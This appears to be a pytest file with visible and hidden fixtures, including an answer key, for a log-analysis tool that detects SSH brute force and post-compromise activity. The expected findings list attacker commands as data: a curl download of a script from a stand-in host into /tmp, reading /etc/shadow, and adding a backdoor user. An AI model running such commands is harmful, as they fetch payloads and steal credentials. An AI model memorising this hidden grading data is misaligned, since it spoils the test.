import os
import subprocess

import pytest

import tg_guard
import base64, configparser, csv, gzip, ipaddress, json, re, tempfile

FMT = 'ipset'
BLOCKFILE = 'blocklist.ipset'
VISIBLE = {'filter': [['Jul 14 05:43:40 monitor-02 sshd[7643]: pam_unix(sshd:session): session opened for user umar(uid=1001) by '
             '(uid=0)',
             None],
            ['Jul 14 06:56:03 monitor-02 sshd[7689]: pam_unix(sshd:session): session opened for user mina(uid=1005) by '
             '(uid=0)',
             None],
            ['Jul 14 06:56:11 monitor-02 sshd[7708]: Accepted publickey for nikos from 10.23.244.47 port 39785 ssh2: '
             'ED25519 SHA256:9560ddc11c2ecab48530110bbd2d02e54e356e92699',
             None],
            ['Jul 14 06:57:19 monitor-02 sshd[7712]: Accepted password for kira from 10.15.68.3 port 31189 ssh2', None],
            ['Jul 14 07:01:20 monitor-02 sshd[7744]: Accepted publickey for kira from 10.60.190.36 port 57131 ssh2: '
             'ED25519 SHA256:fdc0dccc477c3d98c59517e320867fcf0e6ef0264fc',
             None],
            ['Jul 14 07:03:27 monitor-02 sudo[7772]: pam_unix(sudo:session): session opened for user root(uid=0) by '
             'kira(uid=1002)',
             None],
            ['Jul 14 13:54:07 monitor-02 sshd[7865]: Failed password for invalid user nagios from 218.248.96.69 port '
             '50550 ssh2',
             '218.248.96.69'],
            ['Jul 14 15:34:15 monitor-02 sshd[7959]: Failed password for invalid user user from 31.146.2.45 port 58741 '
             'ssh2',
             '31.146.2.45'],
            ['Jul 14 15:36:22 monitor-02 sshd[7962]: Failed password for invalid user oracle from 31.146.2.45 port '
             '37969 ssh2',
             '31.146.2.45'],
            ['Jul 14 15:36:22 monitor-02 sshd[7962]: pam_unix(sshd:auth): authentication failure; logname= uid=0 '
             'euid=0 tty=ssh ruser= rhost=31.146.2.45',
             None],
            ['Jul 14 15:48:16 monitor-02 sshd[8012]: Failed password for root from 31.146.2.45 port 37484 ssh2',
             '31.146.2.45'],
            ['Jul 14 18:51:38 monitor-02 sshd[8067]: Invalid user ubuntu from 31.146.2.45 port 32640', None],
            ['Jul 14 18:51:38 monitor-02 sshd[8067]: pam_unix(sshd:auth): authentication failure; logname= uid=0 '
             'euid=0 tty=ssh ruser= rhost=31.146.2.45',
             None],
            ['Jul 14 18:54:34 monitor-02 sshd[8086]: Failed password for invalid user ftpuser from 31.146.2.45 port '
             '34818 ssh2',
             '31.146.2.45'],
            ['Jul 14 18:59:58 monitor-02 sshd[8092]: pam_unix(sshd:auth): authentication failure; logname= uid=0 '
             'euid=0 tty=ssh ruser= rhost=31.146.2.45',
             None],
            ['Jul 14 19:02:11 monitor-02 sshd[8098]: Invalid user hadoop from 31.146.2.45 port 60685', None],
            ['Jul 15 04:32:39 monitor-02 sshd[8166]: pam_unix(sshd:auth): authentication failure; logname= uid=0 '
             'euid=0 tty=ssh ruser= rhost=10.8.59.200  user=umar',
             None],
            ['Jul 15 06:03:46 monitor-02 sshd[8281]: Failed password for invalid user admin from 31.127.240.117 port '
             '33221 ssh2',
             '31.127.240.117'],
            ['Jul 15 06:03:46 monitor-02 sshd[8281]: pam_unix(sshd:auth): authentication failure; logname= uid=0 '
             'euid=0 tty=ssh ruser= rhost=31.127.240.117',
             None],
            ['Jul 15 06:03:49 monitor-02 sshd[8284]: Invalid user user from 31.127.240.117 port 52713', None],
            ['Jul 15 06:03:49 monitor-02 sshd[8284]: pam_unix(sshd:auth): authentication failure; logname= uid=0 '
             'euid=0 tty=ssh ruser= rhost=31.127.240.117',
             None],
            ['Jul 15 06:09:13 monitor-02 sshd[8320]: Failed password for invalid user ubuntu from 31.127.240.117 port '
             '31125 ssh2',
             '31.127.240.117'],
            ['Jul 15 06:09:29 monitor-02 sshd[8326]: Failed password for invalid user test from 31.127.240.117 port '
             '58848 ssh2',
             '31.127.240.117'],
            ['Jul 15 06:09:29 monitor-02 sshd[8326]: Invalid user test from 31.127.240.117 port 58848', None],
            ['Jul 15 06:10:19 monitor-02 sshd[8354]: Failed password for invalid user oracle from 31.127.240.117 port '
             '52558 ssh2',
             '31.127.240.117'],
            ['Jul 15 06:10:19 monitor-02 sshd[8354]: Invalid user oracle from 31.127.240.117 port 52558', None],
            ['Jul 15 06:10:19 monitor-02 sshd[8354]: pam_unix(sshd:auth): check pass; user unknown', None],
            ['Jul 15 06:12:03 monitor-02 sshd[8420]: Invalid user ftpuser from 31.127.240.117 port 38568', None],
            ['Jul 15 06:12:03 monitor-02 sshd[8420]: pam_unix(sshd:auth): authentication failure; logname= uid=0 '
             'euid=0 tty=ssh ruser= rhost=31.127.240.117',
             None],
            ['Jul 15 06:12:37 monitor-02 sshd[8434]: Failed password for invalid user pi from 31.127.240.117 port '
             '52878 ssh2',
             '31.127.240.117'],
            ['Jul 15 06:12:37 monitor-02 sshd[8434]: pam_unix(sshd:auth): authentication failure; logname= uid=0 '
             'euid=0 tty=ssh ruser= rhost=31.127.240.117',
             None],
            ['Jul 15 06:13:33 monitor-02 sshd[8451]: pam_unix(sshd:auth): authentication failure; logname= uid=0 '
             'euid=0 tty=ssh ruser= rhost=31.127.240.117',
             None],
            ['Jul 15 06:14:03 monitor-02 sshd[8482]: pam_unix(sshd:auth): authentication failure; logname= uid=0 '
             'euid=0 tty=ssh ruser= rhost=31.127.240.117',
             None],
            ['Jul 15 06:15:48 monitor-02 sshd[8501]: Failed password for kira from 31.127.240.117 port 61233 ssh2',
             '31.127.240.117'],
            ['Jul 15 06:18:40 monitor-02 sshd[8512]: Failed password for invalid user hadoop from 31.127.240.117 port '
             '43149 ssh2',
             '31.127.240.117'],
            ['Jul 15 06:20:24 monitor-02 sshd[8534]: Failed password for invalid user hadoop from 31.127.240.117 port '
             '56864 ssh2',
             '31.127.240.117'],
            ['Jul 15 06:20:24 monitor-02 sshd[8534]: Invalid user hadoop from 31.127.240.117 port 56864', None],
            ['Jul 15 06:21:05 monitor-02 sshd[8541]: Failed password for root from 31.127.240.117 port 42106 ssh2',
             '31.127.240.117'],
            ['Jul 15 06:33:12 monitor-02 sshd[8573]: Failed password for tova from 10.50.32.217 port 46995 ssh2',
             '10.50.32.217'],
            ['Jul 15 06:33:16 monitor-02 sshd[8584]: Failed password for tova from 10.50.32.217 port 38680 ssh2',
             '10.50.32.217'],
            ['Jul 15 08:16:04 monitor-02 sshd[8668]: Accepted publickey for hugo from 10.8.200.87 port 37723 ssh2: '
             'ED25519 SHA256:49c0b1e0fe552b2a939d8407e9ad02bf92835d11428',
             None],
            ['Jul 15 09:43:04 monitor-02 sshd[8705]: pam_unix(sshd:auth): authentication failure; logname= uid=0 '
             'euid=0 tty=ssh ruser= rhost=10.8.200.87  user=hugo',
             None],
            ['Jul 15 09:43:12 monitor-02 sshd[8730]: Failed password for hugo from 10.8.200.87 port 56579 ssh2',
             '10.8.200.87'],
            ['Jul 15 09:43:34 monitor-02 sshd[8734]: Failed password for hugo from 10.8.200.87 port 46289 ssh2',
             '10.8.200.87'],
            ['Jul 15 09:43:34 monitor-02 sshd[8734]: pam_unix(sshd:auth): authentication failure; logname= uid=0 '
             'euid=0 tty=ssh ruser= rhost=10.8.200.87  user=hugo',
             None],
            ['Jul 15 09:46:02 monitor-02 sshd[8738]: Failed password for hugo from 10.8.200.87 port 63431 ssh2',
             '10.8.200.87'],
            ['Jul 15 09:46:13 monitor-02 sshd[8764]: Failed password for hugo from 10.8.200.87 port 34548 ssh2',
             '10.8.200.87'],
            ['Jul 15 09:46:13 monitor-02 sshd[8764]: pam_unix(sshd:auth): authentication failure; logname= uid=0 '
             'euid=0 tty=ssh ruser= rhost=10.8.200.87  user=hugo',
             None],
            ['Jul 15 09:47:35 monitor-02 sshd[8800]: Failed password for hugo from 10.8.200.87 port 62105 ssh2',
             '10.8.200.87'],
            ['Jul 15 21:56:36 monitor-02 sshd[8813]: Failed password for hugo from 185.36.58.234 port 60489 ssh2',
             '185.36.58.234'],
            ['Jul 15 21:57:48 monitor-02 sshd[8832]: Failed password for root from 185.36.58.234 port 57025 ssh2',
             '185.36.58.234'],
            ['Jul 15 22:03:54 monitor-02 sshd[8897]: Failed password for hugo from 185.36.58.234 port 50890 ssh2',
             '185.36.58.234'],
            ['Jul 15 22:09:26 monitor-02 sshd[8929]: pam_unix(sshd:session): session opened for user hugo(uid=1004) by '
             '(uid=0)',
             None],
            ['Jul 15 22:16:55 monitor-02 sudo[8947]: pam_unix(sudo:session): session opened for user root(uid=0) by '
             'hugo(uid=1004)',
             None],
            ['Jul 16 09:45:20 monitor-02 CRON[9165]: pam_unix(cron:session): session closed for user root', None],
            ['Jul 16 18:31:45 monitor-02 CRON[9094]: pam_unix(cron:session): session closed for user root', None]],
 'findings': {'brute_force': [{'failures': 7, 'first_seen': '2025-07-14T13:50:12Z', 'ip': '218.248.96.69'},
                              {'failures': 16, 'first_seen': '2025-07-15T06:03:46Z', 'ip': '31.127.240.117'},
                              {'failures': 7, 'first_seen': '2025-07-15T09:59:13Z', 'ip': '185.223.175.196'}],
              'compromised': [{'ip': '185.36.58.234', 'time': '2025-07-15T22:09:26Z', 'user': 'hugo'}],
              'sudo_after_compromise': [{'command': '/usr/sbin/useradd -m -s /bin/bash sysupd',
                                         'time': '2025-07-15T22:12:20Z',
                                         'user': 'hugo'},
                                        {'command': '/usr/bin/curl -s http://198.51.100.7/x.sh -o /tmp/.x',
                                         'time': '2025-07-15T22:16:04Z',
                                         'user': 'hugo'},
                                        {'command': '/usr/bin/cat /etc/shadow',
                                         'time': '2025-07-15T22:16:55Z',
                                         'user': 'hugo'}]}}
HIDDEN = [{'files': {'auth.log': 'H4sIAAAAAAACA81dbW/kthH+nl+hj8mHk0kOX3XwhyBJ0QZIWiQpiiIICq0k323P3l3sS3L370tyd32WNKJIrRQ3uIsdO55nZh5yODN88fenx4zyjLCCavsnW5XVh9PuzaY8ZIfD+/pXxpj4rch25dN/Tpv1xy/dF4vydHz/VZG5D83muK7K43q7yR7K9eNp37zNHrfvNuVTc5+d1vU9yZrzh+Px07396Wx/OjT7+2z/fns43lOSc5NLnlOls8x/5/RU7r/4Pk6tv1jIprbaHQ5/bPd19rDdZ+7ns4f99ilrCd9t98dMApPSSWBtBMYQBMle2/BhtZINZyBQwyWCoOirGz6oVrLhRBGBGM6xMaWlRfi6qprdMQUDKFMyCaPt3ENzOFh3Wv9ePsu2u2bTXICthzz6l86plBD2Vbb6lPn/Il89A/KCmIIJBNC0jTqtHtfVh+ZT3yqdS5Ezc7FJE6O9TUX23bdMCGqyn//6NROyoA928omGSK2hrlkDD6VhIBmpGs30SpKVIGZV6VqLWPWW8AeFwn7SAwRi4kgGlhuSMzj7gytNoM3xCMQiNskC2jHhVG8tIHNTw/7jDSiyX3759/3ueLjj2dvsH//69v7u/fapufPffJv98+fvfrrfb7dH+/k3f//hh69/tP/D6bC/W603d//dnvab8rE6PmZvTs6cWPDP1tovRljrFLjY50xtG/8SVBdgEFBQqMU02eJ6a2fDPtsdYkGXspS7OYIMJgHD8/dQPq2fByyFnIucysuApZyJgQm8qmW1elgJVq9ExXjZUOArajjXK9JU5YNc2em/0prJWP1SB7tT/OoFig52UVCDA0q57PL07Mfz6uRUjdUKW51CHBnr+HZQEQUjhcCCitSvaXZQq0SzQVIme2bTgrTWy29++vuPv4LmrVha7beb9DnXH1sWDZAcA5R6VSeHtEp0slCSKsTJ7cCW4uTqcXvoOvmlbFYQiiivxau6NKRV6ri1sUr3XGpTPegD2PD7ymYPa5Uapbgh/ekKaJLO6etGqZBWyWZzDl2zQRUCGU6cm2XNBqeX1VCri+HH7e9lrF6Y4e7nP6e6n6WfY4cg/dgBtizDIORwPh0GMVyngaQmGQ7+mmRIdCGQbsQIbKKYhQkVuaQ54+RC5/bxXRmrFUan+/lnTz/LvlTAXJG2n88Aqg8gQL622YNaJZptf8jWsl2zucVAADgMjuEQhBY8DSJ1BDvw6wgGdAQrmzWhoV4IPWhTaUuI5tkoZu1iubgW/kzLzrQcwUg1yqNfreIDVlFaMN0vwYQm57rvbMLnwo+0Cr/zd0cqv6MdUNmbTSZIdvd7ub+zI/nu8OlgP8TqcWMp2HHEFdVC2iIDMH+bZXMpyKldA+1goIRdZujLJG9MMWyGeudfRlpL/HmNtROo3Z1z/rZRwGAYbrD9bfO7dVt9aZm4fw0KByo1jZWLOrV631QfvD1vL4CbD5vtH5ubhM7OVKw2GD3rRHf2uJJoem3XnC5XZf203gxLl1RrHSt4MlnJQhclK6TNKFkx/uyxZWcvUsRL39dKmll2TY6VO5msZKGLkhXS5uaZZd3Z5QoYmgtJ1ZtZ231ZPTYB8ZIxGit5KlvpQpdkK6jNKFtRDu3xJdCUXSrZ5et9WW+3u8CiKIHSWMmT+UoWuihfIW1G+YpyaJsvVgCeyUhlkucXtV+NlTyNrylCl+NrRJvb55dzaJcvblGR/UNF4c9OiV9uV48pNrZdjS3cRhPEeIFsJitOegv36rQ5ngK+NUrSWMlTB2u60CUHa1Cb8aU7xqE9vgCH9Gc3Wnw9HHcjyQGRRMSKnkxYstBFCQtpM0pYnEd7jJnulu8ZU0GXsWNzCFS0wIQisXIn05UsdFG6QtqM0hXhzi5XgheMIIBIg2Bk8trEQKhYyVPZShe6JFtBbW6Oht6hbb7AF7pID00zwHt5kN7LGzy3Mga/UAvPRjDS8fNlq5WR2fezz2jtJCQFLbSx6w79UHRvSbNeZfPu9HkyC5MzIu1fbf+Ka26jgMRKnjbdpgidY7q1zY1VZ3S+RXm0Pd8sJEfXTy1El7DDaefFBACAcYiVPZmyZKHLUhZSZ5SySJ/2SBNoXNb9BGRTvltvD0H5SqtY0ZM5Sxa6LGchdUY5i3NplzLOC45Uftr02qm7dUC2EFyRWLFT6UoXuihdQXVG6Rp3Z48qZSH7eIbo9JAIhjISK3syX8lCl+UrpM4MIdH7tEeaKQhyA8IwHmypovKplCpW9GTOkoUuy1lInbSm6qBLEcoo0ng3IlyaoSGXgeCxom+gLFHo0pQNq5NWnA26tEWZOx5pYWWvdOCkfW5zlkLFoamC8KlooULFygYoAMkBGFmy7ahNTrm0FbCwxbBGTk2MKRY+NdERf555vLufccHgQxhP1oHluybbN7umdMeBeHZc2y8W2a834f/WVoDz/1PvDys2n/cFi/Y+zOp9kREoCEUTKiMh8vaXYLm77XS97mTrSjrT9a9x/Wa+KuUBKekWcb7rY/xJ0jmuSh0+HY7Nk+s47W2NXlqnbd6tNx9jVVjgGpEHFaKg/XAOxvCZw/kVDchUtOFwLvwtLF4QJGoaY4aHdPV+XX8+0C1oLnUO114yV2rgRhSjZcOACpCqERVhFdQlUVUjJJW00lrW1BAuG1KbWAVTx7TX/MqoQN3NC6bsnx4iEGCRd8RcLKG5oZdSiRPCZ7ojNq7fzHfEPKCQ2K0ha5aYf7R7NGqmogVHu7AjCZu3nIgF5q1HQ+ZtJNqIJW5aCGwQ8MEDye1py2nu9hbgepOJcvVyv24cZIG5JwpOC6AIotTDc6990NqGI0ZsWn6dfdqQgTW2UdzOPtNwVVGlalKS6sFwLd1JFmgeCNSKSiOahrFYDec+pS3cYXd33h2b7yoQoluXQqxLlLK5Db+22TSXuEuEMqsaoLYpiigpaQBKXcsGZClkVZuVkSVUNi+RqopVcOb7JB7Qrfmyt+YDMeycdnjrP6cdrJV2+G+OpB3l7piddrXNI2NRb8w02la/BGVYVWNBdeRixFzCyXN1uU7BGaNsvtVoRMH5VyPpKw1ktFF/Qz4qY6Est/m+NM8euWwUzJKxjCi4QNRU7kIXpxiijI0Q2uVw7Plaq2GGzRchRhScP0IovzGs+nOVXl806EQISI4QnRcNxkEXCRBUuKYxwdKldnNtlpTmjMbIVLRQSuNupqNHXIDKJXsbDHI7//2NM3K97+pX5VjFsN7Ci4ykLf9cIinWuvjpMezigs4QCX+y8R1SgnqF+yqI6ZwwwnumuyIegVDilXkPKpbOOwdgfeNthdvvaQGj9JV5D+mVzDsAIaRnul1gDQahX5v3kGIT5rvWRveMV50q94LB1SvzHtIrmXfBlGKI6cgrJ2Czi9fmPaTYBN4JN7RnvMZOKsH5wbnRi8QIimSaqSSU+YtUi8hId9z43Of88tg8V4nXdSzeEucNz6i8u9vrUYENWEnTraxO+8fszSF7fzzuirs7arSr360iubr7mNth/Wab3R2fdnf5x1jFlnOH6Dw3dzkQ2X5+b5bc84zW3v5JQRvJPd3NQ4H4TwwQy9OIPThmHW5Z19mbJ8evJ3tVWkIPnw6nXR2rzGJkCtp5U+GyywB6CTItmpBT0YbJlBnxeRtyTpeT9pObM1hyRutmSiloI5Zw2W05+TgOksZ2f1TO3NFxdr2lR7iYazNiXMOZ2z9nQI1twQOEOsTtXod1Cec55XA9FSW4nqnZMa7hzM0OD+g6VYDEC4W3Q+mtzY5x0AWaHWdQ1X256AyqL/vNfuwPJRn+m1MsDYHeaGl7xD+DMrd3hJynAE5Z7EYIVbk7n0QVv5Yh9JIo3r4TMq7i3Emm9Hv9qvNM9SXUtjvw8wR26JdCKWjBwO53tQV2Qmv2iytnNNFpTKagjVgi0IufwLmIPRMjckZpbi4rlJBKzvUm8riCMx+Kkf59PDtukF1TrljcG27MHSBQ15eiKDEvK+hxhPlXGP/yXecNZh8CBaEztdO7G27jqMssMargBHt6FoRv4sewx9wBr1xdD/AqonmbvxGM2fnzz1R2niy6ZNtCzR5uHBrvPFyQghYKNwwKd/4Fc92yN2JsfJJ2OWXEnRTsvYo5rtjIq5ht8ddOuTGtceMwBPbsHUgi/mzju6yEFBt5sQwznjHeN94UAgl6EljwogLqWwU6VvKEQ+8Thc7OVaw2adcUhhza5csdHkIqQ+krw8FXyzDprvscK3gqXelCl6QrqE3Sq2VD/uyxJbA3YW3NShLZEkpwESt4MlvJQhdlK6TNrWx5fyJsIU8QWkSeyBZQBdGCb2ArUejCbA1rcytb3p89tvADu9LA4BVWbCAAtCdWSOpkqpKFLkpVSJv4C6xDzsR4QipFRXlqhiFsLaZjJd/CVZrQpbka1ObmDMM7tMcX+o45KKDB1+UQ8ZIxZWIlT+YrWeiifIW0SXtdbsihPb4Mdj0JlHjt2i2oWHrtJikFQIzHNkpU/+nK1jsJmHibtvNYyZMHa7LQRQdrSJu0hyeGHNrlixHs4WBQWodfl0ODl7w+Bzgueiph6UKXJCyoTeLrckMe7TIGaJcbDF2gyeXR2vdAUtCGm1zqsoGN/FZK0ERH/gYFnjMOOefXgk+0DqCNY8z8KxQ8oJvGGCANXJ5tWSVzJXJ2vdjDDeEDF3uAUPNAVoQJRlbqgbKKgRC1bFa1Yg+qopXiFXHbtzRWv0UcItB9RU3FuanujR+6xeK/mdhUH0e9sanetvqL/wGZJTvq93YAAA==',
            'timedatectl.txt': 'H4sIAAAAAAACA12MQQrCMBQF9znFW+qiWAtS6FbciQjGA5TXDwbTfGg+hfT0ZmtnPTPAH3flGGFhlgEHaoxCkwld212atm/O/dFhh68yNk21uBlPb391r5JNZjAqv8gl8bNoCptMA4rk3eHhn8iyrIH1MNLCKu4HYr22mZYAAAA='},
  'host': 'backup-nas',
  'truth': {'filter': [['Jul 14 02:18:18 backup-nas sshd[2225]: Failed password for umar from 10.49.64.178 port 63266 '
                        'ssh2',
                        '10.49.64.178'],
                       ['Jul 14 02:18:26 backup-nas sshd[2271]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=10.49.64.178  user=umar',
                        None],
                       ['Jul 14 02:18:48 backup-nas sshd[2286]: pam_unix(sshd:session): session opened for user '
                        'umar(uid=1002) by (uid=0)',
                        None],
                       ['Jul 14 05:19:09 backup-nas sshd[2366]: Failed password for sami from 10.13.45.16 port 49134 '
                        'ssh2',
                        '10.13.45.16'],
                       ['Jul 14 05:20:54 backup-nas sshd[2368]: Failed password for sami from 10.13.45.16 port 36126 '
                        'ssh2',
                        '10.13.45.16'],
                       ['Jul 14 05:21:36 backup-nas sshd[2377]: Failed password for sami from 10.13.45.16 port 57617 '
                        'ssh2',
                        '10.13.45.16'],
                       ['Jul 14 05:21:36 backup-nas sshd[2377]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=10.13.45.16  user=sami',
                        None],
                       ['Jul 14 06:23:53 backup-nas sshd[2499]: Failed password for olga from 10.5.61.240 port 60470 '
                        'ssh2',
                        '10.5.61.240'],
                       ['Jul 14 06:23:57 backup-nas sshd[2536]: Failed password for olga from 10.5.61.240 port 53629 '
                        'ssh2',
                        '10.5.61.240'],
                       ['Jul 14 11:19:33 backup-nas sshd[2595]: Failed password for root from 103.113.52.102 port '
                        '45495 ssh2',
                        '103.113.52.102'],
                       ['Jul 14 11:19:33 backup-nas sshd[2595]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=103.113.52.102  user=root',
                        None],
                       ['Jul 14 11:23:59 backup-nas sshd[2598]: Failed password for invalid user user from '
                        '103.113.52.102 port 31681 ssh2',
                        '103.113.52.102'],
                       ['Jul 14 11:26:01 backup-nas sshd[2604]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=103.113.52.102',
                        None],
                       ['Jul 14 11:29:34 backup-nas sshd[2637]: Invalid user user from 103.113.52.102 port 31253',
                        None],
                       ['Jul 14 11:32:57 backup-nas sshd[2674]: Failed password for invalid user oracle from '
                        '103.113.52.102 port 36221 ssh2',
                        '103.113.52.102'],
                       ['Jul 14 11:32:57 backup-nas sshd[2674]: pam_unix(sshd:auth): check pass; user unknown', None],
                       ['Jul 14 11:35:53 backup-nas sshd[2676]: Failed password for invalid user hadoop from '
                        '103.113.52.102 port 46311 ssh2',
                        '103.113.52.102'],
                       ['Jul 14 11:35:53 backup-nas sshd[2676]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=103.113.52.102',
                        None],
                       ['Jul 14 12:42:35 backup-nas sshd[2713]: Failed password for umar from 103.113.52.102 port '
                        '61980 ssh2',
                        '103.113.52.102'],
                       ['Jul 14 12:42:58 backup-nas sshd[2740]: Invalid user ubuntu from 103.113.52.102 port 39761',
                        None],
                       ['Jul 14 12:43:58 backup-nas sshd[2762]: pam_unix(sshd:auth): check pass; user unknown', None],
                       ['Jul 14 12:49:39 backup-nas sshd[2773]: Failed password for invalid user test from '
                        '103.113.52.102 port 32570 ssh2',
                        '103.113.52.102'],
                       ['Jul 14 12:49:39 backup-nas sshd[2773]: Invalid user test from 103.113.52.102 port 32570',
                        None],
                       ['Jul 14 16:31:51 backup-nas sshd[2826]: Failed password for invalid user guest from '
                        '159.206.208.205 port 61730 ssh2',
                        '159.206.208.205'],
                       ['Jul 14 16:35:20 backup-nas sshd[2873]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=159.206.208.205',
                        None],
                       ['Jul 14 16:44:45 backup-nas sshd[2897]: Failed password for invalid user pi from '
                        '159.206.208.205 port 55470 ssh2',
                        '159.206.208.205'],
                       ['Jul 14 16:47:44 backup-nas sshd[2908]: Failed password for invalid user support from '
                        '159.206.208.205 port 39120 ssh2',
                        '159.206.208.205'],
                       ['Jul 14 16:49:02 backup-nas sshd[2924]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=159.206.208.205',
                        None],
                       ['Jul 14 16:49:17 backup-nas sshd[2958]: Invalid user ubuntu from 159.206.208.205 port 62354',
                        None],
                       ['Jul 15 03:01:45 backup-nas sshd[2963]: Accepted publickey for umar from 10.52.0.233 port '
                        '41731 ssh2: ED25519 SHA256:1f2255e06883dd2e3fa923620ce828b60b509bc8d85',
                        None],
                       ['Jul 15 04:27:27 backup-nas sshd[3032]: pam_unix(sshd:session): session opened for user '
                        'sami(uid=1001) by (uid=0)',
                        None],
                       ['Jul 15 05:14:05 backup-nas sshd[3034]: Accepted password for chidi from 10.41.103.36 port '
                        '51475 ssh2',
                        None],
                       ['Jul 15 06:12:30 backup-nas sshd[3098]: Accepted publickey for sami from 10.20.234.70 port '
                        '42212 ssh2: ED25519 SHA256:1bd6cbfb52db5c24ae134b19448b0ecaf6b380b8826',
                        None],
                       ['Jul 15 06:33:47 backup-nas sshd[3121]: Accepted publickey for chidi from 10.12.46.69 port '
                        '42243 ssh2: ED25519 SHA256:21ae2315367e5c02c3da07ce56161c886d19046e0d9',
                        None],
                       ['Jul 15 21:16:29 backup-nas sshd[3218]: Failed password for alice from 23.224.61.206 port '
                        '38898 ssh2',
                        '23.224.61.206'],
                       ['Jul 15 21:16:29 backup-nas sshd[3218]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=23.224.61.206  user=alice',
                        None],
                       ['Jul 15 21:17:19 backup-nas sshd[3247]: Failed password for root from 23.224.61.206 port 52772 '
                        'ssh2',
                        '23.224.61.206'],
                       ['Jul 15 21:17:54 backup-nas sshd[3256]: Failed password for alice from 23.224.61.206 port '
                        '30491 ssh2',
                        '23.224.61.206'],
                       ['Jul 15 21:25:25 backup-nas CRON[3886]: pam_unix(cron:session): session opened for user '
                        'root(uid=0) by (uid=0)',
                        None],
                       ['Jul 15 21:29:35 backup-nas sudo[3356]:    alice : TTY=pts/4 ; PWD=/home/alice ; USER=root ; '
                        'COMMAND=/usr/sbin/useradd -m -s /bin/bash sysupd',
                        None],
                       ['Jul 16 01:57:21 backup-nas sudo[3389]:    sami : TTY=pts/0 ; PWD=/home/sami ; USER=root ; '
                        'COMMAND=/usr/bin/docker ps',
                        None],
                       ['Jul 16 02:00:44 backup-nas sshd[3412]: Accepted publickey for alice from 10.17.159.174 port '
                        '38127 ssh2: ED25519 SHA256:e746cb9e47c177d0a0cf948646313ef03d71695ee22',
                        None],
                       ['Jul 16 23:04:29 backup-nas sshd[3573]: Failed password for sami from 111.67.120.146 port '
                        '40299 ssh2',
                        '111.67.120.146'],
                       ['Jul 16 23:05:23 backup-nas sshd[3605]: Failed password for root from 111.67.120.146 port '
                        '42249 ssh2',
                        '111.67.120.146'],
                       ['Jul 16 23:05:23 backup-nas sshd[3605]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=111.67.120.146  user=root',
                        None],
                       ['Jul 16 23:15:21 backup-nas sshd[3680]: Failed password for invalid user admin from '
                        '111.67.120.146 port 57545 ssh2',
                        '111.67.120.146'],
                       ['Jul 16 23:15:59 backup-nas sshd[3684]: Failed password for invalid user admin from '
                        '111.67.120.146 port 31732 ssh2',
                        '111.67.120.146'],
                       ['Jul 16 23:15:59 backup-nas sshd[3684]: Invalid user admin from 111.67.120.146 port 31732',
                        None],
                       ['Jul 16 23:17:27 backup-nas sshd[3693]: Failed password for invalid user pi from '
                        '111.67.120.146 port 53345 ssh2',
                        '111.67.120.146'],
                       ['Jul 16 23:17:28 backup-nas sshd[3714]: Failed password for invalid user hadoop from '
                        '111.67.120.146 port 53478 ssh2',
                        '111.67.120.146'],
                       ['Jul 16 23:18:21 backup-nas sshd[3731]: Invalid user oracle from 111.67.120.146 port 62279',
                        None],
                       ['Jul 16 23:20:01 backup-nas sshd[3788]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=111.67.120.146',
                        None],
                       ['Jul 17 01:13:22 backup-nas sshd[3808]: Accepted password for olga from 10.54.243.44 port '
                        '43598 ssh2',
                        None],
                       ['Jul 17 01:25:21 backup-nas sudo[3815]: pam_unix(sudo:session): session opened for user '
                        'root(uid=0) by olga(uid=1003)',
                        None]],
            'findings': {'brute_force': [{'failures': 7, 'first_seen': '2025-07-14T16:31:51Z', 'ip': '159.206.208.205'},
                                         {'failures': 9, 'first_seen': '2025-07-14T22:33:30Z', 'ip': '89.146.105.118'},
                                         {'failures': 7, 'first_seen': '2025-07-15T21:09:39Z', 'ip': '23.224.61.206'},
                                         {'failures': 12,
                                          'first_seen': '2025-07-16T23:04:29Z',
                                          'ip': '111.67.120.146'}],
                         'compromised': [{'ip': '23.224.61.206', 'time': '2025-07-15T21:18:51Z', 'user': 'alice'}],
                         'sudo_after_compromise': [{'command': '/usr/bin/id',
                                                    'time': '2025-07-15T21:20:19Z',
                                                    'user': 'alice'},
                                                   {'command': '/usr/bin/curl -s http://198.51.100.7/x.sh -o /tmp/.x',
                                                    'time': '2025-07-15T21:24:02Z',
                                                    'user': 'alice'},
                                                   {'command': '/usr/sbin/useradd -m -s /bin/bash sysupd',
                                                    'time': '2025-07-15T21:29:35Z',
                                                    'user': 'alice'}]}}},
